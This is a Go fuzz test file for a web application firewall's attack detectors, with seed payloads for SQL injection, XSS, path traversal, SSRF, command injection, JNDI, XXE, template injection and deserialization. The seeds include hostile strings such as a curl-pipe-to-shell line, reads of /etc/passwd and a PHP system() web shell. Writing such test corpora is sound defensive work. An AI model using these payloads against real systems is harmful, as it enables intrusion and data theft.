package detect

import (
	"testing"
	"unicode/utf8"

	"github.com/lambdawaf/lambdawaf/agent/event"
)

// Every detector has a fuzz target that reaches it through Inspect with a
// location that selects its sink. The invariants: no panic, bounded and
// valid excerpts, scores in range, stable rule names, deterministic output.
//
//	go test ./agent/detect -run '^$' -fuzz FuzzSQLi -fuzztime 1m

// checkSignals inspects v twice with e and fails t unless both runs agree
// and every signal is well formed: a class and rule, a score of 1–10, and a
// bounded, valid UTF-8 excerpt. Every fuzz target asserts through it.
func checkSignals(t *testing.T, e *Engine, v event.Value) {
	t.Helper()
	a := e.Inspect(v, nil)
	b := e.Inspect(v, nil)
	if len(a) != len(b) {
		t.Fatalf("nondeterministic: %d then %d signals", len(a), len(b))
	}
	for i, sig := range a {
		if sig != b[i] {
			t.Fatalf("nondeterministic signal %d: %+v vs %+v", i, sig, b[i])
		}
		if sig.Class == "" || sig.Rule == "" {
			t.Fatalf("empty class or rule: %+v", sig)
		}
		if r, ok := LookupRule(sig.Rule); !ok || r.Class != sig.Class {
			t.Fatalf("signal %s/%s is not in the rule table (rules.go)", sig.Class, sig.Rule)
		}
		if sig.Score < 1 || sig.Score > 10 {
			t.Fatalf("score out of range: %+v", sig)
		}
		if len(sig.Excerpt) > MaxExcerpt+8 {
			t.Fatalf("excerpt of %d bytes", len(sig.Excerpt))
		}
		if !utf8.ValidString(sig.Excerpt) {
			t.Fatalf("invalid UTF-8 excerpt %q", sig.Excerpt)
		}
	}
}

func fuzzDetector(f *testing.F, seeds []string, mk func(string) event.Value) {
	for _, s := range seeds {
		f.Add(s)
	}
	e := New(Options{})
	f.Fuzz(func(t *testing.T, s string) { checkSignals(t, e, mk(s)) })
}

func FuzzSQLi(f *testing.F) {
	fuzzDetector(f, []string{"1 or true", "' OR 1=1;'", "admin' #", "1; DROP TABLE x", "O'Brien", "12345||12345", "1/**/union/**/select", "')::int"}, func(s string) event.Value { return q("id", s) })
}

func FuzzXSS(f *testing.F) {
	fuzzDetector(f, []string{"<script>alert(1)</script>", "java\tscript:x", `" onmouseover="x`, "<img src=x onerror=y>", "';alert(1)//", "<?xml version='1.0'?><a/>"}, func(s string) event.Value { return body("comment", s) })
}

func FuzzPath(f *testing.F) {
	fuzzDetector(f, []string{"../../etc/passwd", "..%c0%af..%c0%afetc", `..\..\boot.ini`, "%u2216etc", "/proc/self/environ", "a\x00.png", "..／..／etc", `\\host\share\x`, "..%uEFC8..%uF025"}, func(s string) event.Value { return q("file", s) })
}

func FuzzURL(f *testing.F) {
	fuzzDetector(f, []string{"http://169.254.169.254/", "http://0xa9fea9fe", "http://[::ffff:a9fe:a9fe]/", "gopher://x", "http://a.nip.io", "//evil.example/x?", "jar:http://x!/", "http://1.2.3", "http://localhost:9001/2018-06-01/runtime/invocation/next"}, func(s string) event.Value { return q("url", s) })
}

func FuzzCmd(f *testing.F) {
	fuzzDetector(f, []string{"; cat /etc/passwd", "$(id)", "`id`", "cat${IFS}/etc/passwd", ";c'a't x", "for %g in (a) do echo", "/etc/pa[s]swd", "if exist x echo y", "k\r\n*1\r\n$8\r\nflushall", "curl -fsSL https://get.example.io | sh", ";${PATH:0:1}bin${PATH:0:1}id", "; x=id; $x", "x\r\na UID STORE 1:* +FLAGS"}, func(s string) event.Value { return q("cmd", s) })
}

func FuzzJNDI(f *testing.F) {
	fuzzDetector(f, []string{"${jndi:ldap://x/a}", "${${lower:j}ndi:x}", "${${::-j}${::-n}di:rmi://x}", "${env:X:-j}", "${${${${"}, func(s string) event.Value { return hdr("x-api-version", s) })
}

func FuzzXXE(f *testing.F) {
	fuzzDetector(f, []string{`<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>`, `<!ENTITY % p SYSTEM "x">`, `<xi:include href="x"/>`, "<xsl:value-of select='system-property(1)'/>"}, func(s string) event.Value { return body("xml", s) })
}

func FuzzSSTI(f *testing.F) {
	fuzzDetector(f, []string{"{{7*7}}", "${7*7}", "<%= 7*7 %>", "{% import os %}", "#set($x=1)", "{{name}}", "__${x}__"}, func(s string) event.Value { return q("name", s) })
}

func FuzzNoSQL(f *testing.F) {
	fuzzDetector(f, []string{"$ne", "user[$ne]", "$where", "{\"$gt\":\"\"}", "'; return true; var x='"}, func(s string) event.Value {
		return event.Value{Part: event.PartQuery, Location: "query." + s, Key: s, Text: s, Record: -1, IsKey: true}
	})
}

func FuzzLDAP(f *testing.F) {
	fuzzDetector(f, []string{"*)(uid=*))(|(uid=*", "admin)(&)", "(&(a=b)(c=d))", "*))%00"}, func(s string) event.Value { return q("user", s) })
}

func FuzzScanner(f *testing.F) {
	fuzzDetector(f, []string{"sqlmap/1.7", "Mozilla/5.0 (Nikto)", "Mozilla/5.0 (X11; Linux x86_64)", "${jndi:ldap://x}"}, func(s string) event.Value { return hdr("user-agent", s) })
}

func FuzzCode(f *testing.F) {
	fuzzDetector(f, []string{"<?php system($_GET[1]); ?>", "exec /*c*/ (1)", `O:8:"stdClass":0:{}`, "java.lang.Runtime", "rO0ABXNy", "while(!0);", "require('child_process')", "(system)('id')", "gASVIQAAAAAAAAC", "cos\nsystem\n(S'id'\ntR.", "AAEAAAD/////", "BAhvOhVHZW06Okluc3RhbGxlcgY6CUBpSSIGeAY6BkVU", "(#context['x']=1)", "@java.lang.Runtime@getRuntime()"}, func(s string) event.Value { return q("x", s) })
}

func FuzzPathProbe(f *testing.F) {
	fuzzDetector(f, []string{"/.git/config", "/api/v1/users", "/../../etc/passwd", "/wp-login.php"}, path)
}
